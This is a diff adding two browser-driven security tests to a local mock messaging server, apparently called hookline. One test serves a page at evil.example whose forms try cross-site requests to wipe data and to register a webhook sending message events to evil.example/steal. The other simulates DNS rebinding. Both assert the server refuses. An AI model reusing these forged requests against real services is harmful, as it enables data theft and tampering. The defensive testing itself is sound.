@@ -278,3 +278,58 @@ def test_rejected_pre_event_events_tab_layout_and_favicon(
     assert icon.body()[:4] == b"\x00\x00\x01\x00"  # an ICO file
     assert page.eval_on_selector("link[rel=icon]", "l => l.href").endswith("favicon.svg")
     assert not [answer for answer in answers if answer[0] >= 400], answers
+
+
+def test_another_site_cannot_act_through_the_signed_in_browser(
+    page: Any, hookline_server: HooklineServer
+) -> None:
+    """The user has the inspector open (the browser holds hookline's credentials), then
+    visits a page of another site that submits forms to hookline: both are refused, the
+    data stays. The page is served by Playwright's router at http://evil.example/."""
+    conversation = hookline_server.client.conversations.v1.conversations.create(
+        friendly_name="keep me"
+    )
+    page.goto("/_hookline/ui")
+    page.wait_for_selector("#live[data-state=live]", timeout=WAIT_MS)
+    hook = "http://evil.example/steal"
+    html = f"""<!doctype html><body>
+      <form id=reset method=post action="{hookline_server.base_url}/_hookline/reset"></form>
+      <form id=hooks method=post action="{hookline_server.base_url}/v1/Configuration/Webhooks">
+        <input name=PostWebhookUrl value="{hook}"><input name=Filters value=onMessageAdded>
+      </form></body>"""
+    page.context.route(
+        "http://evil.example/**", lambda route: route.fulfill(body=html, content_type="text/html")
+    )
+    for form in ("reset", "hooks"):
+        page.goto("http://evil.example/")
+        with page.expect_response(lambda r: r.request.method == "POST") as answer:
+            page.evaluate(f"document.getElementById('{form}').submit()")
+        response = answer.value
+        assert response.status == 403, response.text()
+        assert response.json()["code"] == 20403
+        assert response.request.headers.get("origin") == "http://evil.example"
+    assert hookline_server.request("GET", f"/v1/Conversations/{conversation.sid}")["sid"]
+    webhooks = hookline_server.request("GET", "/v1/Configuration/Webhooks")
+    assert webhooks["post_webhook_url"] != hook
+
+
+def test_a_rebound_name_is_not_served(hookline_server: HooklineServer) -> None:
+    """DNS rebinding: a name the attacker controls resolving to hookline's address."""
+    port = hookline_server.base_url.rsplit(":", 1)[1]
+    rules = "--host-resolver-rules=MAP rebind.evil.example 127.0.0.1"
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, rules])
+        context = browser.new_context(
+            http_credentials={
+                "username": hookline_server.account_sid,
+                "password": hookline_server.auth_token,
+            }
+        )
+        page = context.new_page()
+        response = page.goto(f"http://rebind.evil.example:{port}/_hookline/ui")
+        assert response is not None and response.status == 403
+        assert response.json()["code"] == 20403
+        # The same browser, through the server's own name, gets the page.
+        own = page.goto(f"{hookline_server.base_url}/_hookline/ui")
+        assert own is not None and own.status == 200
+        browser.close()
